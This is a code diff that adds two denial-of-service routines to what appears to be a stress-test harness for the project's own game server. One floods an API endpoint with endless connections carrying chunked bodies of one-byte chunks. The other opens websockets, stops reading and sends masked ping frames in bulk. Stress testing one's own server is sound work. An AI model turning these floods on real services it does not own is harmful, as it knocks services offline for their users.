@@ -183,6 +183,52 @@ class Dribble(Attack):
         await gathered(*(drop(b"GET / HTTP/1.1\r\nX: ") for _ in range(100)), *(drop(body) for _ in range(100)))
 
 
+class Crumbs(Attack):
+    """Bodies in pieces of a byte, hundreds of thousands of them."""
+
+    async def run(self) -> None:
+        crumbs = b"1\r\nx\r\n" * 5000
+
+        async def spill(verb: bytes) -> None:
+            while True:
+                with contextlib.suppress(OSError):
+                    _, writer = await self.place.open(EVIL)
+                    self.answers["opened"] += 1
+                    with contextlib.closing(writer):
+                        writer.write(verb + b" /api/tables HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n")
+                        for _ in range(100):
+                            writer.write(crumbs)
+                            await writer.drain()
+                await asyncio.sleep(0.05)
+
+        await gathered(*(spill(verb) for verb in (b"GET", b"POST") for _ in range(10)))
+
+
+class Pings(Attack):
+    """Pings as fast as they are taken, at sockets that listen to no answer."""
+
+    async def run(self) -> None:
+        status, content = await self.ask("/api/tables", {"game": "tablut", "seats": dict.fromkeys("wb", PERSON)})
+        if status != 201:
+            await asyncio.sleep(3600)
+        table = json.loads(content)["table"]
+        ping = bytes([0x89, 0x80 | 125]) + bytes(4 + 125)
+
+        async def ping_on() -> None:
+            line = await self.place.socket(EVIL, table)
+            line.transport.pause_reading()
+            try:
+                while not line.transport.is_closing():
+                    if not line.transport.get_write_buffer_size():
+                        line.transport.write(ping * 500)
+                        self.answers["pings"] += 500
+                    await asyncio.sleep(0.01)
+            finally:
+                line.transport.abort()
+
+        await gathered(*(self.repeated(ping_on, 1) for _ in range(20)))
+
+
 class Questions(Attack):
     """As many sockets as there may be, each asking why something is not allowed."""
 
@@ -238,6 +284,8 @@ ATTACKS = (
     Mistakes,
     Silence,
     Dribble,
+    Crumbs,
+    Pings,
     Questions,
     Flood,
 )
